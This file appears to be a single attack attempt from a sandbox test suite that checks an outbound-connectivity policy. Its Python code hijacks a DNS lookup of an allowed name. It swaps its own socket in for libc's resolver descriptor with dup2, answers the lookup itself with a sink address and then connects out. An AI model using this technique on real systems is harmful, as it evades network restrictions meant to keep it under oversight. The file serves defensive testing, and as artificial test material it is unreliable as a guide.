# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread puts a socket of its own in the place
#   of libc's and answers itself
# proof: sink
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os
import socket
import threading

from attack import SINK, answer_to, attempt, beside_lookups, is_asking


@attempt
def connect():
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)

    def serve():
        while True:
            theirs.send(answer_to(theirs.recv(4096), SINK[0]))

    threading.Thread(target=serve, daemon=True).start()

    def replace(fd):
        os.dup2(ours.fileno(), fd, inheritable=False)
        return socket.socket().connect_ex(SINK) == 0

    return beside_lookups(is_asking, replace)
